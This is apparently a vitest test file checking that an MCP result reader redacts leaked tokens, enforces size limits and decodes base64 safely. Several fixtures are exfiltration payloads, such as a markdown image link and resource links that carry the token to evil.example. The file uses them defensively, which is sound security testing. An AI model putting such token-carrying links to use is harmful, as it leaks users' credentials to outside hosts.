import type { ContentBlock } from '@modelcontextprotocol/client';
import { LIMITS } from '@svc/contracts';
import { describe, expect, it, vi } from 'vitest';
import {
  type CallResult,
  decodeBase64,
  givenBlock,
  givenOf,
  readResult,
} from '../../src/calls/read-result.ts';
import { createSecrets } from '../../src/calls/secrets.ts';
import { connectorApp } from '../../src/connectors/connector-app.ts';
import { RuntimeError } from '../../src/platform/runtime-error.ts';
import { answering, PNG } from '../support/answering.ts';
import { openCalls, TOKEN, tokensOf } from '../support/calls.ts';
import { text } from '../support/mcp-server.ts';
import { panelApp } from '../support/panel-app.ts';
import { refused } from '../support/refused.ts';

const leaks = (result: CallResult) => JSON.stringify(result).includes(TOKEN);

describe('a token that a server sends back', () => {
  it.each([
    ['a text', text(`Your token is ${TOKEN}.`)],
    ['a link in a text', text(`![x](https://evil.example/?t=${encodeURIComponent(TOKEN)})`)],
    ['base64', text(Buffer.from(`Bearer ${TOKEN}`).toString('base64'))],
    ['structured content', { content: [], structuredContent: { deep: [{ [TOKEN]: TOKEN }] } }],
    ['a value alone', { ok: TOKEN }],
    ['an error of the tool', { ...text(TOKEN), isError: true }],
    [
      'a resource',
      { content: [{ type: 'resource', resource: { uri: `https://x.example/${TOKEN}`, text: TOKEN } }] },
    ],
    [
      'two texts',
      { content: [TOKEN.slice(0, 9), TOKEN.slice(9)].map((piece) => ({ type: 'text', text: piece })) },
    ],
    [
      'a name of a file',
      { content: [{ type: 'resource_link', uri: 'https://evil.example/f', name: TOKEN }] },
    ],
    [
      'a link that is not allowed',
      { content: [{ type: 'resource_link', uri: `https://evil.example/${TOKEN}`, name: '' }] },
    ],
    [
      'annotations',
      {
        content: [{ type: 'text', text: 'x', annotations: { note: TOKEN }, _meta: { t: TOKEN } }],
        _meta: { t: TOKEN },
      },
    ],
  ])('in %s does not reach the agent', async (_where, result) => {
    const { call } = await answering(result);
    const got = await call('mine');
    expect(leaks(got)).toBe(false);
    const joined = got.parts.map((part) => (part.type === 'text' ? part.text : '')).join('');
    expect(joined).not.toContain(TOKEN);
  });

  it('in a file prevents the file from being stored', async () => {
    const blob = Buffer.concat([PNG, Buffer.from(TOKEN)]).toString('base64');
    const { call } = await answering({ content: [{ type: 'image', data: blob, mimeType: 'image/png' }] });
    const got = await call('mine');
    expect(got.files).toEqual([]);
    expect(got.parts).toEqual([{ type: 'text', text: expect.stringContaining('was not kept') }]);
  });

  it('that was used earlier is redacted too, also in a call without an account', async () => {
    const old = 'another-token-of-yesterday';
    let turn = 0;
    const { call } = await openCalls(() => text(`${old} ${TOKEN}`), {
      deps: {
        tokens: { ...tokensOf(null).tokens, token: async () => [old, TOKEN][Math.min(turn++, 1)] ?? null },
      },
    });
    await call('mine');
    expect((await call('plain')).parts).toEqual([{ type: 'text', text: '[secret] [secret]' }]);
  });
});

describe('a result that is too large', () => {
  it.each([
    ['text', text('x'.repeat(2 ** 20 + 1))],
    ['structured content', { content: [], structuredContent: { x: 'x'.repeat(2 ** 20) } }],
    ['a value alone', { x: 'x'.repeat(2 ** 20) }],
  ])('in %s is kept as a file of its app', async (_what, result) => {
    const { call } = await answering(result);
    const { files } = await call('mine');
    expect(files).toMatchObject([{ name: 'result.txt', type: 'text/plain' }]);
    expect(files[0]?.bytes).toBeGreaterThan(2 ** 20);
  });

  it.each([
    [
      'the name of a link',
      { content: [{ type: 'resource_link', uri: 'https://x.example/f', name: 'x'.repeat(2 ** 20) }] },
    ],
    [
      'the address of a link',
      { content: [{ type: 'resource_link', uri: `https://x.example/${'x'.repeat(2 ** 20)}`, name: 'f' }] },
    ],
    [
      'the names of all links',
      {
        content: Array.from({ length: 20 }, () => ({
          type: 'resource_link',
          uri: 'https://x.example/f',
          name: '.'.repeat(60_000),
        })),
      },
    ],
    [
      'the address of a resource',
      { content: [{ type: 'resource', resource: { uri: `x:${'x'.repeat(2 ** 20)}`, text: '' } }] },
    ],
    [
      'the type of a picture',
      { content: [{ type: 'image', data: '', mimeType: `image/${'x'.repeat(2 ** 20)}` }] },
    ],
    ['annotations', { content: [{ type: 'text', text: '', _meta: { note: 'x'.repeat(2 ** 20) } }] }],
    ['the number of parts', { content: Array.from({ length: 501 }, () => ({ type: 'text', text: '' })) }],
    [
      'the number of files',
      { content: Array.from({ length: 21 }, () => ({ type: 'image', data: '', mimeType: 'image/png' })) },
    ],
  ])('in %s is refused', async (_what, result) => {
    const { call } = await answering(result);
    await expect(call('mine')).rejects.toEqual(refused('too-large'));
  });
});

describe('base64 of a server', () => {
  it.each([
    ['in one line', 'aGVsbG8gd29ybGQ='],
    ['in lines of MIME', 'aGVs\r\nbG8gd29y\r\nbGQ=\r\n'],
    ['indented', '\n  aGVsbG8g\n\td29ybGQ=\n'],
  ])('is decoded %s', (_, data) => expect(decodeBase64(data, 11).toString()).toBe('hello world'));

  it.each(['aGVs*G8=', 'data:text/plain;base64,aGVsbG8=', 'aGVsbG8===', 'aGVsbG8\u00a0='])(
    'is refused when it is none: %j',
    (data) => expect(() => decodeBase64(data, 100)).toThrow(refused('server-failed')),
  );

  it('is refused by its size, however it is wrapped', () => {
    expect(() => decodeBase64('AAAA'.repeat(5), 12)).toThrow(refused('too-large'));
    expect(decodeBase64('AAAA\n'.repeat(4), 12)).toHaveLength(12);
  });
});

describe('what a server says of a part', () => {
  const secrets = createSecrets();
  secrets.add(TOKEN);
  const icon = { src: 'https://a.example/i.png' };
  const LONG = Array.from({ length: 4 }, () => 'x'.repeat(4_000));
  const room = 16 * 1024 - JSON.stringify({ a: LONG, b: '' }).length;

  it.each<[string, object, object]>([
    [
      'is passed on without tokens and hidden characters',
      { title: `a\u200b ${TOKEN}`, none: undefined },
      { title: 'a [secret]' },
    ],
    [
      'has icons of https and data URLs alone',
      {
        icons: [
          icon,
          { src: 'DATA:image/png;base64,AA' },
          { src: 'http://a.example/' },
          { src: 'data:text/html,x' },
          { src: ['https://a.example/'] },
          null,
          'https:',
        ],
      },
      { icons: [icon, { src: 'DATA:image/png;base64,AA' }] },
    ],
    ['has no icons where none can be shown', { icons: [null], a: 1 }, { a: 1 }],
    ['has no icons that are no list', { icons: icon, a: 1 }, { a: 1 }],
    ['has up to 16 KiB', { a: LONG, b: 'x'.repeat(room) }, { a: LONG, b: 'x'.repeat(room) }],
    ['has not more', { a: LONG, b: 'x'.repeat(room + 1) }, {}],
  ])('%s', (_what, part, given) => {
    expect(givenOf(part, secrets)).toStrictEqual(given);
  });

  it.each<[object, object]>([
    [{ type: 'text', text: 'x' }, {}],
    [{ type: 'text', text: 'x', annotations: { a: 1 } }, { given: { type: 'text', annotations: { a: 1 } } }],
    [
      { type: 'image', data: 'AAAA', mimeType: 'image/png' },
      { given: { type: 'image', mimeType: 'image/png' } },
    ],
    [{ type: 'audio', data: 'AAAA' }, { given: { type: 'audio' } }],
    [
      { type: 'resource', resource: { uri: 'x:y', text: 'x' }, _meta: {} },
      { given: { type: 'resource', _meta: {}, resource: { uri: 'x:y' } } },
    ],
    [
      { type: 'resource', resource: { uri: 'x:y', blob: 'AAAA' } },
      { given: { type: 'resource', resource: { uri: 'x:y' } } },
    ],
    [
      { type: 'resource', resource: { uri: 'x:y', text: 'x'.repeat(20_000) } },
      { given: { type: 'resource', resource: { uri: 'x:y' } } },
    ],
  ])('as %j is all but its text and bytes', (block, given) => {
    expect(givenBlock(block as ContentBlock, secrets)).toStrictEqual(given);
  });
});

describe('a result', () => {
  const app = panelApp({ grants: ['files:return'], domains: ['files.example.com'] } as never);
  const connector = connectorApp('https://mcp.example.com/', false);
  const read = (result: object, deps: Partial<Parameters<typeof readResult>[1]> = {}) =>
    readResult(result as never, {
      ...{ app, project: 'project-1', secrets: createSecrets(), signal: new AbortController().signal },
      ...{ mayReturnMedia: () => true, fetch, read: async () => ({ contents: [] }) },
      storage: { keep: async (_of, { name, bytes }) => ({ name, bytes: bytes.byteLength }) as never },
      ...deps,
    });
  const image = (data = 'AAAA') => ({ type: 'image', data, mimeType: 'image/png' });

  it.each<[string, (more: number) => object]>([
    [
      '500 blocks',
      (more) => ({ content: Array.from({ length: 500 + more }, () => ({ type: 'text', text: '' })) }),
    ],
    ['20 files', (more) => ({ content: Array.from({ length: 20 + more }, () => image()) })],
  ])('has at most %s', async (_what, result) => {
    await expect(read(result(0))).resolves.toBeDefined();
    await expect(read(result(1))).rejects.toEqual(refused('too-large'));
  });

  it.each<[string, (more: number) => object]>([
    ['structure', (more) => ({ content: [], structuredContent: { a: 'x'.repeat(1024 * 1024 - 8 + more) } })],
    // The names of fields count: type, text, and the type itself.
    ['text', (more) => ({ content: [{ type: 'text', text: 'x'.repeat(1024 * 1024 - 12 + more) }] })],
    [
      'text with a file',
      (more) => ({
        content: [{ type: 'text', text: 'x'.repeat(1024 * 1024 - 45 + more) }, image()],
      }),
    ],
  ])('is kept as a file, and not lost, with more than a mebibyte of %s', async (_what, result) => {
    const isFile = ({ name }: { name: string }) => name === 'result.txt';
    expect((await read(result(0))).files.filter(isFile)).toEqual([]);
    const kept: string[] = [];
    const storage = {
      async keep(_of: unknown, { name, bytes }: { name: string; bytes: Uint8Array }) {
        if (name === 'result.txt') kept.push(Buffer.from(bytes).toString());
        return { id: name, name, bytes: bytes.byteLength } as never;
      },
    };
    const { parts, structured, files } = await read(result(100), { storage });
    const [whole = ''] = kept;
    expect([kept.length, structured, files.some(isFile)]).toEqual([1, null, true]);
    const [text] = parts;
    if (text?.type !== 'text') throw new Error('There is no text.');
    expect(text.whole).toEqual({ file: 'result.txt', characters: whole.length });
    expect(text.text.length).toBeLessThan(60_000);
    expect(whole).toContain(text.text.split('\n')[1] ?? 'none');
    // Its other files are kept too.
    expect(files).toHaveLength(_what === 'text with a file' ? 2 : 1);
  });

  it('is refused with a mebibyte of names and annotations', async () => {
    const title = 'x'.repeat(1024 * 1024);
    await expect(
      read({ content: [{ type: 'resource_link', uri: 'x:y', name: 'a', title }] }),
    ).rejects.toEqual(refused('too-large'));
  });

  it('has larger files than texts', async () => {
    const data = 'A'.repeat(1_200_000);
    const { files } = await read({
      content: [image(data), { type: 'resource', resource: { uri: 'x:y', blob: data } }],
    });
    expect(files).toMatchObject([{ bytes: 900_000 }, { bytes: 900_000 }]);
  });

  it('of a connector has files of 20 MiB together, and of an app of a store each', async () => {
    const content = [image('A'.repeat(Math.ceil(LIMITS.file.maxBytes / 3) * 4 - 4).concat('AAA=')), image()];
    const { files, parts } = await read({ content }, { app: connector });
    expect(files).toHaveLength(1);
    expect(parts[1]).toMatchObject({ type: 'text', text: expect.stringContaining('was not kept') });
    expect((await read({ content })).files).toHaveLength(2);
  });

  it('that is long is kept with an empty line between its texts alone', async () => {
    const long = 'x'.repeat(1024 * 1024);
    const kept: string[] = [];
    const storage = {
      async keep(_of: unknown, { name, bytes }: { name: string; bytes: Uint8Array }) {
        if (name === 'result.txt') kept.push(Buffer.from(bytes).toString());
        return { id: name, name, bytes: bytes.byteLength } as never;
      },
    };
    const text = (words: string) => ({ type: 'text', text: words });
    await read({ content: [image(), text('a'), text(''), text(long)] }, { storage });
    await read({ content: [image()], structuredContent: { long } }, { storage });
    expect(kept.map((whole) => whole.replace(long, 'LONG'))).toEqual(['a\n\nLONG', '{"long":"LONG"}']);
  });

  it('has what the server says beside its parts, of a connector alone', async () => {
    const result = {
      content: [{ type: 'resource', resource: { uri: 'x:y', text: 'x' } }],
      _meta: { a: 1 },
      isError: true,
    };
    const part = { type: 'text', text: 'x' };
    expect(await read(result)).toStrictEqual({ isError: true, parts: [part], structured: null, files: [] });
    const given = { type: 'resource', resource: { uri: 'x:y' } };
    expect(await read(result, { app: connector })).toStrictEqual({
      ...{ isError: true, parts: [{ ...part, given }], structured: null, files: [] },
      given: { _meta: { a: 1 } },
    });
    expect(await read({ content: [], isError: 'yes' }, { app: connector })).toStrictEqual({
      ...{ isError: false, parts: [], structured: null, files: [] },
    });
  });

  it('keeps the note of a file that was refused, and fails for a fault and for a call that ended', async () => {
    const keep = (error: Error) => ({ keep: () => Promise.reject(error) });
    const full = new RuntimeError('too-large');
    const { parts } = await read({ content: [image()] }, { storage: keep(full) });
    expect(parts).toEqual([{ type: 'text', text: expect.stringContaining('The file image was not kept') }]);
    const fault = new TypeError('a bug');
    await expect(read({ content: [image()] }, { storage: keep(fault) })).rejects.toBe(fault);
    const disk = Object.assign(new Error('write'), { code: 'ENOSPC' });
    const { parts: noted } = await read({ content: [image()] }, { storage: keep(disk) });
    expect(noted).toEqual([{ type: 'text', text: expect.stringContaining('was not kept: The disk of') }]);
    const ended = { storage: keep(full), signal: AbortSignal.abort() };
    await expect(read({ content: [image()] }, ended)).rejects.toBe(full);
  });

  it('does not read the body of a refused download', async () => {
    const cancel = vi.fn();
    const refusal = new Response(new ReadableStream({ cancel }), { status: 404 });
    const link = { type: 'resource_link', uri: 'https://files.example.com/a.txt', name: 'a.txt' };
    const { parts } = await read({ content: [link] }, { fetch: async () => refusal });
    expect(parts).toEqual([{ type: 'text', text: expect.stringContaining('answered with 404') }]);
    expect(cancel).toHaveBeenCalledOnce();
  });
});
